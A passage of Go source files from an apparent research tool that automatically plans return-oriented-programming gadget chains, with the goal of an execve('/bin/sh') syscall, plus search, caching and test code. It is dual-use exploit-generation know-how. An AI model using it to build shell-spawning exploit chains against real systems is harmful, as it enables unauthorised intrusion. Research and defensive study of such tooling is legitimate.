// fewer pre-conditions, fewer clobbered registers (fewer threats), shorter.
func rankCandidates(pool *gadget.Pool, req Requirement, uses map[int]int) []*gadget.Gadget {
	// Syscall-terminated gadgets cannot continue a chain; they only anchor
	// plans as the goal step.
	cands := make([]*gadget.Gadget, 0, len(pool.ByReg[req.Reg]))
	for _, g := range pool.ByReg[req.Reg] {
		// Negative-delta gadgets sink the chain cursor below the payload,
		// making every later gadget read victim stack.
		if g.Effect.End != symex.EndSyscall && g.Effect.StackDelta >= 0 {
			cands = append(cands, g)
		}
	}
	sort.Slice(cands, func(i, j int) bool {
		a, b := cands[i], cands[j]
		if uses[a.ID] != uses[b.ID] {
			return uses[a.ID] < uses[b.ID] // diversity first
		}
		if len(a.Effect.Conds) != len(b.Effect.Conds) {
			return len(a.Effect.Conds) < len(b.Effect.Conds)
		}
		if len(a.ClobRegs) != len(b.ClobRegs) {
			return len(a.ClobRegs) < len(b.ClobRegs)
		}
		if a.NumInsts() != b.NumInsts() {
			return a.NumInsts() < b.NumInsts()
		}
		return a.Location < b.Location
	})
	return cands
}
