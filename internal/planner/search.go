package planner

import (
	"container/heap"
	"fmt"
	"runtime"
	"sort"
	"sync"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// defaultBatchSize is how many frontier plans one batch pops. It is a fixed
// constant — deliberately NOT derived from Parallelism — because the batch
// boundary is what shapes the search order; workers only split a batch.
const defaultBatchSize = 16

// Options tune the plan search.
type Options struct {
	// MaxPlans stops the search after this many validated plans. Default 8.
	MaxPlans int
	// MaxNodes bounds search-node expansions. Default 30000.
	MaxNodes int
	// MaxSteps bounds gadget instances per plan (chain length). Default 10,
	// clamped to 60 (plan orderings are tracked in single-word bitsets).
	MaxSteps int
	// Candidates caps producer candidates tried per open requirement.
	// Default 8.
	Candidates int
	// Timeout bounds wall-clock search time. Default 30s.
	Timeout time.Duration
	// Validate, if set, is called on each complete plan; only plans it
	// accepts are returned (Algorithm 1's UNSAT filtering, implemented by
	// payload concretization in the core pipeline). It always runs on the
	// coordinator goroutine, in deterministic batch order.
	Validate func(*Plan) bool
	// Trace, if set, observes every expanded plan (diagnostics).
	Trace func(*Plan)
	// Parallelism is the number of frontier-expansion workers. 0 = all
	// cores, 1 = single-threaded. Results are byte-identical at every
	// setting: batches are popped, validated, and merged in deterministic
	// order, and BatchSize — not the worker count — shapes the search.
	Parallelism int
	// BatchSize overrides how many plans each frontier batch pops
	// (default defaultBatchSize). Changing it changes the search order;
	// changing Parallelism never does.
	BatchSize int
	// DisableCache turns off the per-search memoization layers — the
	// provider cache and the candidate-ranking cache — restoring the
	// seed's per-expansion derivation costs (A/B benchmarking). Plans are
	// identical either way; only the speed differs.
	DisableCache bool
}

// Fingerprint renders the options' semantic fields canonically (defaults
// applied) for content-addressed artifact keys. Parallelism is excluded —
// plans are identical at every worker count — and so are the Validate and
// Trace closures: callers caching search results must key whatever state
// those closures observe themselves (core's plan stage keys the payload
// parameters its validator is built from). BatchSize shapes the search
// order and DisableCache changes the reported counters, so both are
// included.
func (o Options) Fingerprint() string {
	o = o.withDefaults()
	return fmt.Sprintf("plans=%d,nodes=%d,steps=%d,cands=%d,timeout=%s,batch=%d,cache=%t",
		o.MaxPlans, o.MaxNodes, o.MaxSteps, o.Candidates, o.Timeout, o.BatchSize, !o.DisableCache)
}

func (o Options) withDefaults() Options {
	if o.MaxPlans == 0 {
		o.MaxPlans = 8
	}
	if o.MaxNodes == 0 {
		o.MaxNodes = 30000
	}
	if o.MaxSteps == 0 {
		o.MaxSteps = 10
	}
	if o.MaxSteps > maxOrderSteps-4 {
		o.MaxSteps = maxOrderSteps - 4
	}
	if o.Candidates == 0 {
		o.Candidates = 8
	}
	if o.Timeout == 0 {
		o.Timeout = 30 * time.Second
	}
	if o.Parallelism <= 0 {
		o.Parallelism = runtime.GOMAXPROCS(0)
	}
	if o.BatchSize <= 0 {
		o.BatchSize = defaultBatchSize
	}
	return o
}

// Result reports the search outcome.
type Result struct {
	Plans     []*Plan
	Expanded  int
	Generated int
	Rejected  int // complete plans rejected by validation
	TimedOut  bool
	// TruncatedSeeds counts syscall anchors dropped by the seed cap — no
	// silent truncation.
	TruncatedSeeds int
	// Batches counts deterministic frontier batches processed.
	Batches int
	// CacheHits/CacheMisses report provider-cache effectiveness (both zero
	// when DisableCache is set).
	CacheHits, CacheMisses int64
}

// StatsLine renders the search counters for stats output, in the style of
// subsume.Stats' triage line.
func (r *Result) StatsLine() string {
	s := fmt.Sprintf("expanded=%d generated=%d batches=%d cache=%d/%d hit/miss",
		r.Expanded, r.Generated, r.Batches, r.CacheHits, r.CacheMisses)
	if r.TruncatedSeeds > 0 {
		s += fmt.Sprintf(" truncatedSeeds=%d", r.TruncatedSeeds)
	}
	if r.TimedOut {
		s += " timeout"
	}
	return s
}

// planHeap orders plans by the paper's heuristics: fewest open
// pre-conditions, then fewest deferred constraints, then fewest steps.
type planHeap []*Plan

func (h planHeap) Len() int { return len(h) }
func (h planHeap) Less(i, j int) bool {
	if len(h[i].Open) != len(h[j].Open) {
		return len(h[i].Open) < len(h[j].Open)
	}
	if len(h[i].Demands) != len(h[j].Demands) {
		return len(h[i].Demands) < len(h[j].Demands)
	}
	return len(h[i].Steps) < len(h[j].Steps)
}
func (h planHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *planHeap) Push(x any)   { *h = append(*h, x.(*Plan)) }
func (h *planHeap) Pop() any {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// searchCtx bundles the per-search read-mostly machinery shared by the
// coordinator and its expansion workers.
type searchCtx struct {
	pool  *gadget.Pool
	opts  Options
	cache *providerCache
	idx   *candidateIndex
	keys  *keyInterner
}

// Search runs backward partial-order planning over the pool toward the
// goal, returning up to MaxPlans distinct complete plans.
//
// The frontier is processed in deterministic batches: pop the K best plans
// in heap order, handle complete ones (dedup, validate, accept) serially in
// that order, expand the incomplete ones in parallel workers, then merge
// the successors back into the heap in pop order. Because batch boundaries,
// validation order, and merge order depend only on BatchSize — never on
// Parallelism — the accepted plans, counters, and diversity ranking are
// byte-identical at any worker count.
func Search(pool *gadget.Pool, goal Goal, opts Options) *Result {
	opts = opts.withDefaults()
	res := &Result{}
	deadline := time.Now().Add(opts.Timeout)

	sc := &searchCtx{
		pool:  pool,
		opts:  opts,
		cache: newProviderCache(pool, opts.DisableCache),
		idx:   newCandidateIndex(pool, opts.DisableCache),
		keys:  newKeyInterner(pool),
	}

	var total tally
	var q planHeap
	seedPlans, truncated := seeds(sc, goal, &total)
	res.TruncatedSeeds = truncated
	for _, p := range seedPlans {
		heap.Push(&q, p)
	}

	found := make(map[string]bool)
	// Partial-plan dedup: structurally identical search states (same gadget
	// shapes, same open requirements) are explored once.
	visited := make(map[string]bool)
	// Diversity pressure: gadgets already appearing in accepted plans are
	// deprioritized as producers, pushing the search toward structurally
	// different chains (the paper: "Gadget-Planner does not stop when
	// finding one gadget chain; it keeps searching for more diverse gadget
	// chains").
	uses := make(map[int]int)

	type job struct {
		p      *Plan
		cands  []*gadget.Gadget
		specID uint32 // interned form of p.Open[0].Spec
	}
	var jobs []job
	var succs [][]*Plan
	var tallies []tally

	done := false
	for q.Len() > 0 && res.Expanded < opts.MaxNodes && !done {
		if time.Now().After(deadline) {
			res.TimedOut = true
			break
		}
		k := opts.BatchSize
		if k > q.Len() {
			k = q.Len()
		}
		if rem := opts.MaxNodes - res.Expanded; k > rem {
			k = rem
		}
		res.Batches++

		// Phase 1 (serial): pop the batch in heap order. Complete plans are
		// deduped, validated, and accepted right here, in pop order, so the
		// uses-based diversity ranking the rest of the batch expands under
		// is reproducible.
		jobs = jobs[:0]
		usesChanged := false
		for i := 0; i < k; i++ {
			p := heap.Pop(&q).(*Plan)
			res.Expanded++
			if opts.Trace != nil {
				opts.Trace(p)
			}
			if p.Complete() {
				sig := sc.keys.key(p)
				if found[sig] {
					continue
				}
				if opts.Validate != nil && !opts.Validate(p) {
					res.Rejected++
					continue
				}
				found[sig] = true
				res.Plans = append(res.Plans, p)
				for _, g := range p.Chain() {
					uses[g.ID]++
				}
				usesChanged = true
				if len(res.Plans) >= opts.MaxPlans {
					done = true
					break
				}
				continue
			}
			jobs = append(jobs, job{p: p})
		}
		if done || len(jobs) == 0 {
			continue
		}
		if usesChanged {
			sc.idx.bumpUses()
		}
		// Candidate lists and spec IDs are resolved serially (the index
		// caches its diversity re-rank per register, the interner owns the
		// spec table); workers receive ready slices and dense keys.
		for i := range jobs {
			jobs[i].cands = nil
			jobs[i].specID = sc.keys.specOf(jobs[i].p.Open[0].Spec)
			if jobs[i].p.NumGadgets() < opts.MaxSteps {
				jobs[i].cands = sc.idx.candidatesFor(jobs[i].p.Open[0].Reg, uses)
			}
		}

		// Phase 2 (parallel): expand into index-addressed slots.
		succs = append(succs[:0], make([][]*Plan, len(jobs))...)
		tallies = append(tallies[:0], make([]tally, len(jobs))...)
		runJobs(opts.Parallelism, len(jobs), func(i int) {
			succs[i] = expand(sc, jobs[i].p, jobs[i].cands, jobs[i].specID, &tallies[i])
		})

		// Phase 3 (serial): merge successors in batch order.
		for i := range jobs {
			total.lookups += tallies[i].lookups
			for _, succ := range succs[i] {
				key := sc.keys.key(succ)
				if visited[key] {
					continue
				}
				visited[key] = true
				res.Generated++
				heap.Push(&q, succ)
			}
		}
	}
	if !opts.DisableCache {
		res.CacheMisses = sc.cache.misses.Load()
		res.CacheHits = total.lookups - res.CacheMisses
	}
	return res
}

// runJobs executes fn(0..n-1) on up to `workers` goroutines. With one
// worker (or one job) it degenerates to a plain loop.
func runJobs(workers, n int, fn func(int)) {
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			fn(i)
		}
		return
	}
	next := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				fn(i)
			}
		}()
	}
	for i := 0; i < n; i++ {
		next <- i
	}
	close(next)
	wg.Wait()
}

// seeds builds one initial plan per usable syscall gadget (the backward
// search starts from the attack's final state). The second result counts
// anchors dropped by the seed cap.
func seeds(sc *searchCtx, goal Goal, t *tally) ([]*Plan, int) {
	pool := sc.pool
	// Deterministic goal-register order.
	regs := make([]isa.Reg, 0, len(goal.Regs))
	for r := range goal.Regs {
		regs = append(regs, r)
	}
	sort.Slice(regs, func(i, j int) bool { return regs[i] < regs[j] })

	// Prefer simple syscall gadgets.
	anchors := append([]*gadget.Gadget(nil), pool.Syscalls...)
	sort.Slice(anchors, func(i, j int) bool {
		if len(anchors[i].Effect.Conds) != len(anchors[j].Effect.Conds) {
			return len(anchors[i].Effect.Conds) < len(anchors[j].Effect.Conds)
		}
		if anchors[i].NumInsts() != anchors[j].NumInsts() {
			return anchors[i].NumInsts() < anchors[j].NumInsts()
		}
		return anchors[i].Location < anchors[j].Location
	})
	// Seed every anchor: the most useful ones (libc-style syscall wrappers
	// that set argument registers internally) are long and would be crowded
	// out by any shortest-first cap. Unworkable seeds die cheaply when a
	// requirement has no producers.
	truncated := 0
	if len(anchors) > 64 {
		truncated = len(anchors) - 64
		anchors = anchors[:64]
	}

	var out []*Plan
	for _, sg := range anchors {
		selfReqs, usable := sc.cache.stepReqsFor(sg, t)
		if !usable {
			continue
		}
		p := &Plan{
			Steps:    []Step{{ID: 0}, {ID: 1, G: sg}},
			goalStep: 1,
		}
		p.addOrder(0, 1)
		ok := true
		for _, r := range regs {
			spec := goal.Regs[r]
			if int(r) >= len(sg.Effect.Regs) {
				ok = false // register unknown to this backend
				break
			}
			e := sg.Effect.Regs[r]
			if e == pool.Builder.Var(symex.RegVarNameOn(pool.Backend(), r), 64) {
				// Unchanged by the syscall gadget: require at its entry.
				p.Open = append(p.Open, Requirement{Step: 1, Reg: r, Spec: spec})
				continue
			}
			pr, provided := sc.cache.providesFor(sg, r, spec, sc.keys.specOf(spec), t)
			if !provided {
				ok = false
				break
			}
			for _, rq := range pr.entryReqs {
				p.Open = append(p.Open, Requirement{Step: 1, Reg: rq.reg, Spec: rq.spec})
			}
			for _, d := range pr.demands {
				d.Step = 1
				p.addDemand(d)
			}
		}
		if !ok {
			continue
		}
		for _, rq := range selfReqs {
			p.Open = append(p.Open, Requirement{Step: 1, Reg: rq.reg, Spec: rq.spec})
		}
		out = append(out, p)
	}
	return out, truncated
}

// expand generates successor plans for the first open requirement. It is
// called from expansion workers: everything it touches is either owned by
// the task (p, t, the successors it builds) or safe for concurrent reads
// (the pool, the candidate slice, the provider cache).
func expand(sc *searchCtx, p *Plan, cands []*gadget.Gadget, specID uint32, t *tally) []*Plan {
	req := p.Open[0]
	rest := p.Open[1:]
	var succs []*Plan

	// Candidate 1: reuse an existing step that already supplies this value.
	for i := range p.Steps {
		s := &p.Steps[i]
		if s.G == nil || s.ID == req.Step {
			continue
		}
		if s.ID != p.goalStep && (s.G.Effect.End == symex.EndSyscall || s.G.Effect.StackDelta < 0) {
			continue
		}
		if p.orderedBefore(req.Step, s.ID) {
			continue // cannot be ordered before the consumer
		}
		if sp := linkedSpec(p, s.ID, req.Reg); sp != nil {
			if !equalSpec(*sp, req.Spec) {
				continue // the step is committed to a different value
			}
			succs = append(succs, applyProducer(p, rest, req, s.ID, provideResult{})...)
			continue
		}
		pr, ok := sc.cache.providesFor(s.G, req.Reg, req.Spec, specID, t)
		if !ok {
			continue
		}
		succs = append(succs, applyProducer(p, rest, req, s.ID, pr)...)
	}

	// Candidate 2: instantiate a new gadget step.
	taken := 0
	for _, g := range cands {
		if taken >= sc.opts.Candidates {
			break
		}
		pr, ok := sc.cache.providesFor(g, req.Reg, req.Spec, specID, t)
		if !ok {
			continue
		}
		selfReqs, usable := sc.cache.stepReqsFor(g, t)
		if !usable {
			continue
		}
		succ := p.cloneWithOpen(rest)
		id := len(succ.Steps)
		succ.Steps = append(succ.Steps, Step{ID: id, G: g})
		succ.addOrder(0, id)
		// The syscall fires last; every other gadget precedes it.
		if id != succ.goalStep {
			succ.addOrder(id, succ.goalStep)
		}
		for _, rq := range selfReqs {
			succ.Open = append(succ.Open, Requirement{Step: id, Reg: rq.reg, Spec: rq.spec})
		}
		if more := finishLink(succ, req, id, pr); len(more) > 0 {
			succs = append(succs, more...)
			taken++
		}
	}
	return succs
}

// linkedSpec returns the spec a step is already committed to supply for reg.
func linkedSpec(p *Plan, step int, reg isa.Reg) *ValueSpec {
	for i := range p.Links {
		if p.Links[i].Producer == step && p.Links[i].Reg == reg {
			return &p.Links[i].Spec
		}
	}
	return nil
}

// applyProducer links an existing step as the producer for req.
func applyProducer(p *Plan, rest []Requirement, req Requirement, producer int, pr provideResult) []*Plan {
	return finishLink(p.cloneWithOpen(rest), req, producer, pr)
}

// finishLink installs the causal link and the producer's own new
// requirements and demands, then resolves threats. Because each threat can
// be resolved by demotion or promotion, the result is a (possibly empty)
// set of consistent successor plans.
func finishLink(succ *Plan, req Requirement, producer int, pr provideResult) []*Plan {
	for _, rq := range pr.entryReqs {
		succ.Open = append(succ.Open, Requirement{Step: producer, Reg: rq.reg, Spec: rq.spec})
	}
	for _, d := range pr.demands {
		d.Step = producer
		succ.addDemand(d)
	}
	if !succ.addOrder(producer, req.Step) {
		return nil
	}
	link := Link{Producer: producer, Consumer: req.Step, Reg: req.Reg, Spec: req.Spec}
	succ.Links = append(succ.Links, link)
	return resolveThreats(succ, producer, len(succ.Links)-1, 2)
}

// firstUnresolvedThreat finds a step that clobbers some link's register and
// could be ordered between that link's producer and consumer.
//
// Every frontier plan is threat-free (seeds carry no links, and expanded
// plans come out of resolveThreats clean), and adding ordering constraints
// can only resolve threats, never create them — so after finishLink the
// only pairs that can be threatened involve the link's producer step or the
// newly installed link at index newLink. The scan visits exactly those
// pairs, in the same step-major, link-minor order a full scan would use, so
// it returns the same threat a full scan would find first.
func firstUnresolvedThreat(p *Plan, producer, newLink int) (threat int, link Link, found bool) {
	threatened := func(t *Step, l Link) bool {
		if t.ID == l.Producer || t.ID == l.Consumer {
			return false
		}
		if !clobbers(t.G, l.Reg) {
			return false
		}
		if p.orderedBefore(t.ID, l.Producer) || p.orderedBefore(l.Consumer, t.ID) {
			return false // already safe
		}
		return true
	}
	for i := range p.Steps {
		t := &p.Steps[i]
		if t.G == nil {
			continue
		}
		if t.ID == producer {
			for _, l := range p.Links {
				if threatened(t, l) {
					return t.ID, l, true
				}
			}
		} else if l := p.Links[newLink]; threatened(t, l) {
			return t.ID, l, true
		}
	}
	return 0, Link{}, false
}

// resolveThreats enumerates consistent orderings protecting every causal
// link, branching on demotion (threat before producer) versus promotion
// (threat after consumer), up to limit plans. producer and newLink scope
// the threat scan to the pairs the enclosing finishLink could have
// endangered (see firstUnresolvedThreat).
func resolveThreats(p *Plan, producer, newLink, limit int) []*Plan {
	t, l, found := firstUnresolvedThreat(p, producer, newLink)
	if !found {
		return []*Plan{p}
	}
	var out []*Plan
	if q := p.Clone(); q.addOrder(t, l.Producer) {
		out = append(out, resolveThreats(q, producer, newLink, limit)...)
	}
	if len(out) < limit {
		if q := p.Clone(); q.addOrder(l.Consumer, t) {
			out = append(out, resolveThreats(q, producer, newLink, limit-len(out))...)
		}
	}
	if len(out) > limit {
		out = out[:limit]
	}
	return out
}
