package planner

import (
	"encoding/binary"
	"slices"
	"sort"

	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// candidateIndex holds per-register producer candidates, filtered and
// statically ranked once at search start instead of per expand() call.
// The diversity tiebreak (prefer gadgets not yet appearing in accepted
// plans) is applied as a cheap stable re-rank on top of the static order
// and cached until the next plan is accepted. All methods run on the
// search coordinator only, so no locking is needed.
type candidateIndex struct {
	base     map[isa.Reg][]*gadget.Gadget
	reranked map[isa.Reg][]*gadget.Gadget
	// anyUses stays false until the first plan is accepted; until then the
	// static order IS the diversity order and no re-rank is done at all.
	anyUses bool
	// disabled (Options.DisableCache) re-ranks from scratch on every call,
	// reproducing the seed's per-expansion sorting cost for A/B benchmarks.
	// The resulting order — and hence the search — is identical either way.
	disabled bool
}

func newCandidateIndex(pool *gadget.Pool, disabled bool) *candidateIndex {
	idx := &candidateIndex{
		base:     make(map[isa.Reg][]*gadget.Gadget, len(pool.ByReg)),
		reranked: make(map[isa.Reg][]*gadget.Gadget),
		disabled: disabled,
	}
	for r, gs := range pool.ByReg {
		cands := make([]*gadget.Gadget, 0, len(gs))
		for _, g := range gs {
			// Syscall-terminated gadgets cannot continue a chain; they only
			// anchor plans as the goal step. Negative-delta gadgets sink the
			// chain cursor below the payload, making every later gadget read
			// victim stack.
			if g.Effect.End != symex.EndSyscall && g.Effect.StackDelta >= 0 {
				cands = append(cands, g)
			}
		}
		sort.SliceStable(cands, func(i, j int) bool { return staticCandLess(cands[i], cands[j]) })
		idx.base[r] = cands
	}
	return idx
}

// staticCandLess is the uses-independent planning-cost order: fewer
// pre-conditions, fewer clobbered registers (fewer threats), shorter.
func staticCandLess(a, b *gadget.Gadget) bool {
	if len(a.Effect.Conds) != len(b.Effect.Conds) {
		return len(a.Effect.Conds) < len(b.Effect.Conds)
	}
	if len(a.ClobRegs) != len(b.ClobRegs) {
		return len(a.ClobRegs) < len(b.ClobRegs)
	}
	if a.NumInsts() != b.NumInsts() {
		return a.NumInsts() < b.NumInsts()
	}
	return a.Location < b.Location
}

// bumpUses invalidates the cached re-ranks after the accepted-plan set (and
// hence the uses counts) changed.
func (idx *candidateIndex) bumpUses() {
	idx.anyUses = true
	clear(idx.reranked)
}

// candidatesFor returns the ranked producer candidates for reg under the
// current uses counts: least-used first (diversity pressure), static
// planning-cost order within each usage class.
func (idx *candidateIndex) candidatesFor(reg isa.Reg, uses map[int]int) []*gadget.Gadget {
	if idx.disabled {
		// Seed cost model: a full sort per call. Stable-sorting the
		// statically-ordered base with the full comparator yields exactly
		// the order the cached path produces.
		base := idx.base[reg]
		c := append(make([]*gadget.Gadget, 0, len(base)), base...)
		sort.SliceStable(c, func(i, j int) bool {
			if uses[c[i].ID] != uses[c[j].ID] {
				return uses[c[i].ID] < uses[c[j].ID] // diversity first
			}
			return staticCandLess(c[i], c[j])
		})
		return c
	}
	if !idx.anyUses {
		return idx.base[reg]
	}
	if c, ok := idx.reranked[reg]; ok {
		return c
	}
	base := idx.base[reg]
	c := append(make([]*gadget.Gadget, 0, len(base)), base...)
	sort.SliceStable(c, func(i, j int) bool { return uses[c[i].ID] < uses[c[j].ID] })
	idx.reranked[reg] = c
	return c
}

// keyInterner builds the search's dedup keys from interned IDs instead of
// formatted strings: gadget shapes and value specs are mapped to dense
// uint32s once, and a plan's key is the varint encoding of its sorted
// shape multiset plus its sorted packed open requirements — structurally
// the same identity as the old string key without the per-call formatting
// and string sorting. Coordinator-only (scratch buffers are reused).
type keyInterner struct {
	shapeByGID []uint32 // gadget ID -> shape ID + 1 (0 = not yet interned)
	shapeIDs   map[string]uint32
	specIDs    map[specKey]uint32
	scratch    []uint64
	buf        []byte
}

func newKeyInterner(pool *gadget.Pool) *keyInterner {
	maxID := 0
	for _, g := range pool.Gadgets {
		if g.ID > maxID {
			maxID = g.ID
		}
	}
	return &keyInterner{
		shapeByGID: make([]uint32, maxID+1),
		shapeIDs:   make(map[string]uint32),
		specIDs:    make(map[specKey]uint32),
	}
}

func (ki *keyInterner) shapeOf(g *gadget.Gadget) uint32 {
	if id := ki.shapeByGID[g.ID]; id != 0 {
		return id - 1
	}
	s := gadgetShape(g)
	id, ok := ki.shapeIDs[s]
	if !ok {
		id = uint32(len(ki.shapeIDs))
		ki.shapeIDs[s] = id
	}
	ki.shapeByGID[g.ID] = id + 1
	return id
}

func (ki *keyInterner) specOf(s ValueSpec) uint32 {
	k := canonSpecKey(s)
	id, ok := ki.specIDs[k]
	if !ok {
		id = uint32(len(ki.specIDs))
		ki.specIDs[k] = id
	}
	return id
}

// key returns the dedup key identifying a search state: the multiset of
// gadget shapes plus the set of open requirements. Complete plans reduce to
// the shape multiset, i.e. the interned form of Plan.Signature.
func (ki *keyInterner) key(p *Plan) string {
	rs := ki.scratch[:0]
	for i := range p.Steps {
		if g := p.Steps[i].G; g != nil {
			rs = append(rs, uint64(ki.shapeOf(g)))
		}
	}
	nShapes := len(rs)
	slices.Sort(rs[:nShapes])
	for _, r := range p.Open {
		shape := uint64(0) // the Start step
		if g := p.step(r.Step).G; g != nil {
			shape = uint64(ki.shapeOf(g)) + 1
		}
		// shape(24b) | reg(8b) | spec(32b): pools have far fewer than 2^24
		// distinct shapes and a search sees far fewer than 2^32 specs.
		rs = append(rs, shape<<40|(uint64(r.Reg)&0xFF)<<32|uint64(ki.specOf(r.Spec)))
	}
	reqs := rs[nShapes:]
	slices.Sort(reqs)
	buf := ki.buf[:0]
	buf = binary.AppendUvarint(buf, uint64(nShapes))
	for _, v := range rs {
		buf = binary.AppendUvarint(buf, v)
	}
	ki.scratch = rs
	ki.buf = buf
	return string(buf)
}
