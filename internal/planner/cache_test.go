package planner

import (
	"math/rand"
	"reflect"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/isa"
)

// diversePool assembles a pool with several producer shapes per register so
// searches branch and the provider cache sees varied (gadget, spec) pairs.
const diverseGadgets = classicGadgets + `
    mov rax, rbx
    ret
    pop rbx
    ret
    lea rax, [rbx+1]
    ret
    mov rdi, rax
    ret
    xor rdx, rdx
    ret
    pop rcx
    ret
`

// TestProvidesCacheAgreement is the property check behind the provider
// cache: for random (gadget, register, spec) triples, the memoized
// providesFor must return exactly what a direct provides call computes —
// same result structure, same verdict.
func TestProvidesCacheAgreement(t *testing.T) {
	pool := poolFrom(t, diverseGadgets)
	cache := newProviderCache(pool, false)
	keys := newKeyInterner(pool)
	rng := rand.New(rand.NewSource(7))

	specs := []ValueSpec{
		ConstSpec(0), ConstSpec(59), ConstSpec(rng.Uint64()),
		PointerSpec([]byte("/bin/sh\x00")), PointerSpec([]byte{byte(rng.Intn(256))}),
		ArbitrarySpec(),
	}
	var tl tally
	checked := 0
	for trial := 0; trial < 500; trial++ {
		g := pool.Gadgets[rng.Intn(len(pool.Gadgets))]
		reg := isa.Reg(rng.Intn(int(isa.NumRegs)))
		spec := specs[rng.Intn(len(specs))]
		if spec.Kind == SpecConst && rng.Intn(2) == 0 {
			spec = ConstSpec(rng.Uint64() >> uint(rng.Intn(64)))
		}

		wantPR, wantOK := provides(pool.Builder, g, reg, spec)
		gotPR, gotOK := cache.providesFor(g, reg, spec, keys.specOf(spec), &tl)
		if wantOK != gotOK || !reflect.DeepEqual(wantPR, gotPR) {
			t.Fatalf("gadget %v reg %s spec %s: cached (%v, %v) != direct (%v, %v)",
				g, reg, spec, gotPR, gotOK, wantPR, wantOK)
		}

		wantReqs, wantU := stepEntryReqs(pool.Builder, g)
		gotReqs, gotU := cache.stepReqsFor(g, &tl)
		if wantU != gotU || !reflect.DeepEqual(wantReqs, gotReqs) {
			t.Fatalf("gadget %v: cached step reqs (%v, %v) != direct (%v, %v)",
				g, gotReqs, gotU, wantReqs, wantU)
		}
		checked++
	}
	if checked == 0 || tl.lookups == 0 {
		t.Fatal("property loop exercised nothing")
	}
	misses := cache.misses.Load()
	if misses == 0 || tl.lookups <= misses {
		t.Errorf("expected repeated lookups to hit the cache: lookups=%d misses=%d", tl.lookups, misses)
	}
}

// TestDisabledCacheAgreement pins the A/B contract of Options.DisableCache:
// the disabled cache routes straight to the underlying derivations.
func TestDisabledCacheAgreement(t *testing.T) {
	pool := poolFrom(t, diverseGadgets)
	cache := newProviderCache(pool, true)
	var tl tally
	for _, g := range pool.Gadgets {
		spec := ConstSpec(59)
		wantPR, wantOK := provides(pool.Builder, g, isa.RAX, spec)
		gotPR, gotOK := cache.providesFor(g, isa.RAX, spec, 0, &tl)
		if wantOK != gotOK || !reflect.DeepEqual(wantPR, gotPR) {
			t.Fatalf("gadget %v: disabled cache diverged", g)
		}
	}
	if tl.lookups != 0 || cache.misses.Load() != 0 {
		t.Errorf("disabled cache counted traffic: lookups=%d misses=%d", tl.lookups, cache.misses.Load())
	}
}

// BenchmarkSearch measures a full deep search over the diverse pool — the
// planner hot path end to end (seeding, frontier batches, expansion,
// dedup), without payload validation.
func BenchmarkSearch(b *testing.B) {
	r, err := buildPool(diverseGadgets)
	if err != nil {
		b.Fatal(err)
	}
	for _, cfg := range []struct {
		name    string
		disable bool
	}{{"cached", false}, {"seedpath", true}} {
		b.Run(cfg.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				opts := Options{MaxPlans: 1 << 20, Candidates: 32, Parallelism: 1, DisableCache: cfg.disable}
				Search(r, ExecveGoal(), opts)
			}
		})
	}
}
