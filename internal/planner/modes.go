package planner

import (
	"github.com/nofreelunch/gadget-planner/internal/expr"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// regReq is a requirement on a register at a gadget's entry.
type regReq struct {
	reg  isa.Reg
	spec ValueSpec
}

// varClass partitions the variables of an expression.
type varClass struct {
	inputs []string  // stack-input variables (attacker payload cells)
	regs   []isa.Reg // initial-register variables
	other  bool      // flags, opaque vars: not plannable
}

func classifyVars(nodes ...*expr.Node) varClass {
	var vc varClass
	for _, name := range expr.Vars(nodes...) {
		if symex.IsAttackerVar(name) {
			vc.inputs = append(vc.inputs, name)
			continue
		}
		if symex.IsSPVar(name) {
			// The stack pointer is managed by the chain layout itself and
			// can never be a planning requirement (any backend).
			vc.other = true
			continue
		}
		if r, ok := symex.IsRegVar(name); ok {
			vc.regs = append(vc.regs, r)
			continue
		}
		vc.other = true
	}
	return vc
}

// invertForm recognizes invertible single-variable expressions:
// v, v+c, v^c, ~v, -v. It returns the variable name and a concrete inverse
// for constant targets.
func invertForm(e *expr.Node) (varName string, inverse func(uint64) uint64, ok bool) {
	id := func(x uint64) uint64 { return x }
	switch e.Kind {
	case expr.KindVar:
		return e.Name, id, true
	case expr.KindAdd:
		if e.Args[0].Kind == expr.KindVar && e.Args[1].IsConst() {
			c := e.Args[1].Val
			return e.Args[0].Name, func(x uint64) uint64 { return x - c }, true
		}
	case expr.KindXor:
		if e.Args[0].Kind == expr.KindVar && e.Args[1].IsConst() {
			c := e.Args[1].Val
			return e.Args[0].Name, func(x uint64) uint64 { return x ^ c }, true
		}
	case expr.KindNot:
		if e.Args[0].Kind == expr.KindVar {
			return e.Args[0].Name, func(x uint64) uint64 { return ^x }, true
		}
	case expr.KindNeg:
		if e.Args[0].Kind == expr.KindVar {
			return e.Args[0].Name, func(x uint64) uint64 { return -x }, true
		}
	}
	return "", nil, false
}

// provideResult describes how a gadget's exit can satisfy reg=spec.
type provideResult struct {
	// entryReqs are requirements pushed onto the gadget's entry state.
	entryReqs []regReq
	// demands are slot equations to discharge at concretization.
	demands []SlotDemand
}

// provides analyzes whether gadget g's exit state can satisfy reg=spec,
// and at what cost. The Step field of returned demands is unfilled.
func provides(b *expr.Builder, g *gadget.Gadget, reg isa.Reg, spec ValueSpec) (provideResult, bool) {
	if int(reg) >= len(g.Effect.Regs) {
		return provideResult{}, false // register unknown to this backend
	}
	e := g.Effect.Regs[reg]
	if e.Kind == expr.KindVar {
		// Unchanged register (its exit value is its own entry variable, on
		// any backend): not a producer.
		if src, ok := symex.IsRegVar(e.Name); ok && src == reg {
			return provideResult{}, false
		}
	}
	vc := classifyVars(e)
	if vc.other {
		return provideResult{}, false
	}

	// Constant exit value.
	if e.IsConst() {
		if spec.Kind == SpecConst && spec.Value == e.Val {
			return provideResult{}, true
		}
		return provideResult{}, false
	}

